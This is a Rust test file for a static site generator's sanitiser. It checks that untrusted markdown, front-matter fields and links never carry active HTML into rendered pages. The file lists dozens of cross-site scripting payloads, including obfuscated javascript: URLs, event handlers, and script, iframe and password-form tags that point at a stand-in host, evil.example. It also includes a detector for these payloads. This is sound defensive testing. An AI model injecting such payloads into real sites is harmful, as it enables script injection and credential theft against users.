//! HTML that wants to do harm, in a collection that is not trusted: nothing of it reaches a page. And in one that is
//! trusted the author's own HTML stays.

use crate::html::Page;
use crate::support;

/// Ways to run a script, to lead away, to take over the page or its address.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \u{1}java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&#58;alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](data:text/html,alert)",
    "[x](vbscript:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example/ 'title\" onmouseover=\"alert(1)')",
    "![\" onerror=\"alert(1)](x.png)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<style>* { display: none }</style>",
    "<p style='position: fixed; inset: 0; background: url(//evil.example)'>x</p>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0; url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "</main></body></html><script>alert(1)</script>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='[[nothing]]' onclick=alert(1)>x</a>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img onerror=alert(1)> |",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "# <script>alert(1)</script>",
    "## x <img src=x onerror=alert(1)>",
    "<img src=a.png srcset='//evil.example/a.png 2x'>",
    "<picture><source srcset='//evil.example/a.png'><img src=//evil.example/b.png></picture>",
    "<video poster=//evil.example/p.png><source src=//evil.example/v.mp4></video>",
    "<svg><image href='//evil.example/x'/><use xlink:href='data:x#y'/></svg>",
    "<a href='x' ping=//evil.example>x</a>",
    "<div style=\"background: url('//evil.example')\"",
    "<div title=\"<table background=//evil.example>",
    "<v-m data-v='r0'></v-m><v-t>x</v-t>",
];

/// What an untrusted text can never bring to a page.
const FORBIDDEN: &[&str] =
    &["iframe", "object", "embed", "form", "base", "input", "textarea", "math", "template", "noscript"];

/// The marks that an attack would leave, as a browser sees the page.
fn harm(page: &Page) -> Vec<String> {
    let mut harm = Vec::new();
    for (name, value) in &page.attributes {
        let plain: String =
            value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
        let leads = matches!(
            name.as_str(),
            "href"
                | "src"
                | "action"
                | "formaction"
                | "xlink:href"
                | "data"
                | "srcset"
                | "poster"
                | "ping"
                | "background"
        );
        let scheme = plain.starts_with("javascript:") || plain.starts_with("vbscript:") || plain.starts_with("data:");
        if name.starts_with("on") || (leads && (scheme || name != "href" && plain.contains("evil.example"))) {
            harm.push(format!("{name}={value:?}"));
        }
        if name == "style" || name == "http-equiv" && plain != "x-ua-compatible" {
            harm.push(format!("{name}={value:?}"));
        }
    }
    harm.extend(page.elements.iter().filter(|name| FORBIDDEN.contains(&name.as_str())).cloned());
    harm
}

/// A page of an entry without the theme: what the author's text became. The theme has scripts and styles of its own.
const BARE: &str = "<title>{{ title }}</title><h1>{{ title }}</h1>{% if summary %}{% for block in summary %}{{ block.html|safe }}{% endfor %}{% endif %}\
                    {% for block in body %}{% if block.html is defined %}{{ block.html|safe }}{% endif %}{% endfor %}\
                    {% for mention in mentions %}{% for sentence in mention.sentences %}{{ sentence|safe }}{% endfor %}{% endfor %}";

#[test]
fn attacks_in_prose_reach_no_page() {
    for attack in ATTACKS {
        let text = format!("See [[home]].\n\n{attack}\n\nAnd {attack} again, [[home|{attack}]].\n");
        let site = support::site(&[
            ("handbook/x.md", &text),
            ("handbook/home.md", "Home."),
            ("theme/templates/page.html", BARE),
        ]);
        super::problems_of(&site);
        for address in ["handbook/x.html", "handbook/home.html"] {
            let html = support::page(&site, address);
            let page = Page::of(&html);
            let mut harm = harm(&page);
            harm.extend(
                page.elements
                    .iter()
                    .filter(|name| matches!(name.as_str(), "script" | "style" | "link" | "meta" | "svg"))
                    .cloned(),
            );
            assert!(harm.is_empty(), "{attack}\non {address}: {harm:?}\n{html}");
        }
    }
}

#[test]
fn attacks_in_fields_and_names_reach_no_page() {
    let fields = "---\ntitle: x\nsummary: x\nstatus: x\ntags: [x]\neligibility: x\nresponsibilities: [x]\n---\n";
    let files = [
        ("site.yaml", "title: x\nfacts: {x: x}\n"),
        ("roles/x.md", fields),
        ("handbook/y.md", "[[x]] and [[fact:x]].\n\n![[x#responsibilities]]\n"),
    ];
    let clean = support::render(&support::site(&files)).0;
    for attack in ATTACKS.iter().filter(|attack| !attack.contains('\n')) {
        let quoted = attack.replace('\'', "''").replace('\u{1}', "");
        let fields = format!(
            "---\ntitle: '{quoted}'\nsummary: '{quoted}'\nstatus: '{quoted}'\ntags: ['{quoted}']\neligibility: '{quoted}'\n\
             responsibilities: ['{quoted}']\n---\n"
        );
        let files = [
            ("site.yaml", &*format!("title: '{quoted}'\ndescription: '{quoted}'\nfacts: {{x: '{quoted}'}}\n")),
            ("roles/x.md", &*fields),
            ("handbook/y.md", "[[x]] and [[fact:x]].\n\n![[x#responsibilities]]\n"),
        ];
        let site = support::site(&files);
        let (outputs, _) = support::render(&site);
        for (address, bytes) in outputs.iter().filter(|(address, _)| address.ends_with(".html")) {
            // A tag has an address of its own.
            let like = if clean.contains_key(address) { address } else { "tags/x.html" };
            let (page, theirs) = (String::from_utf8_lossy(bytes), String::from_utf8_lossy(&clean[like]));
            // The theme has scripts, styles and a search field of its own.
            let known = harm(&Page::of(&theirs));
            // The running heads of a document for paper are texts in a style; `css_text` has a test of its own.
            let is_head = |harm: &str| address.ends_with("print.html") && harm.starts_with("style=\"--title:'");
            let new = harm(&Page::of(&page)).into_iter().filter(|harm| !known.contains(harm) && !is_head(harm));
            let new: Vec<String> = new.collect();
            assert!(new.is_empty(), "{attack}\non {address}: {new:?}");
            let scripts = |html: &str| html.to_lowercase().matches("<script").count();
            assert_eq!(scripts(&page), scripts(&theirs), "{attack}\non {address}: a script");
        }
    }
}

/// Whether two things on the page of a role have one id.
fn ids_given_twice(text: &str) -> Vec<String> {
    let site = support::site(&[
        ("roles/a.md", &format!("---\nresponsibilities: [{{id: x, text: Do}}, {{id: main, text: Go}}]\n---\n{text}")),
        ("handbook/b.md", "See [[a]] and [[a#x]].\n"),
    ]);
    Page::of(&support::page(&site, "roles/a.html")).ids_given_twice().map(str::to_string).collect()
}

/// Names that a theme, the program or a browser's scripts may use.
const IDS: [&str; 14] = [
    "main",
    "content",
    "contents",
    "search",
    "mentions",
    "responsibilities",
    "top",
    "nav",
    "menu",
    "location",
    "x",
    "fn:1",
    "acts",
    "outcomes",
];

#[test]
fn an_element_of_a_text_does_not_take_an_id_of_the_page() {
    let text: String = IDS.iter().map(|id| format!("<p id=\"{id}\">p</p>\n\n")).collect();
    assert_eq!(ids_given_twice(&text), [""; 0]);
}

#[test]
fn a_heading_of_a_text_does_not_take_an_id_of_the_page() {
    let text: String = IDS.iter().map(|id| format!("## {id}\n\nText.\n\n")).collect();
    assert_eq!(ids_given_twice(&text), [""; 0]);
}

#[test]
fn an_element_and_a_heading_of_a_text_do_not_share_an_id() {
    assert_eq!(ids_given_twice("<p id=\"goal\">p</p>\n\n## Goal\n\nText.\n"), [""; 0]);
    assert_eq!(ids_given_twice("<p id=\"goal\">p</p>\n\n<p id=\"goal\">p</p>\n"), [""; 0]);
    assert_eq!(ids_given_twice("## Goal\n\nText.\n\n## Goal\n\nText.\n\n## Goal-1\n\nText.\n"), [""; 0]);
}

#[test]
fn a_trusted_collection_keeps_its_html() {
    let html = "<div style=\"color: red\"><iframe src=\"https://video.example/1\"></iframe></div>";
    let settings = "collections: {handbook: {html: trusted}}";
    let page = |files: &[(&str, &str)]| support::page(&support::site(files), "handbook/x.html");
    assert!(
        page(&[("site.yaml", settings), ("handbook/x.md", html)]).contains("<iframe src=\"https://video.example/1\">")
    );
    assert!(!page(&[("handbook/x.md", html)]).contains("<iframe"));
}

#[test]
fn the_judge_of_attacks_sees_them() {
    for attack in [
        "<a href='java&Tab;script:x'>",
        "<img onerror=x>",
        "<iframe>",
        "<a href=' JAVASCRIPT:x'>",
        "<p style=x>",
        "<base>",
    ] {
        assert!(!harm(&Page::of(attack)).is_empty(), "{attack}");
    }
    assert!(harm(&Page::of("<a href='https://x.org'>javascript:</a>")).is_empty());
}

/// The site's own address goes before that of every page: one that leads up, breaks the line, gives away a password or asks a
/// question is none.
#[test]
fn an_address_that_is_no_plain_folder_of_the_web_is_told_of() {
    for url in [
        "https://x.org/../../y/",
        "https://x.org/%2e%2E/y/",
        "https://x.org/a%0d%0ab/",
        "https://kim:word@x.org/",
        "https://x.org/a?b=c",
        "https://x.org/#a",
        "https://x.org/a b/",
        "https://",
        "https:///a/",
        "ftp://x.org/",
    ] {
        let settings = format!("base-url: \"{url}\"\n");
        let site = support::site(&[("site.yaml", &settings), ("index.md", "# Home\n")]);
        assert_eq!(support::codes(&site), ["wrong-type"], "{url}");
    }
}
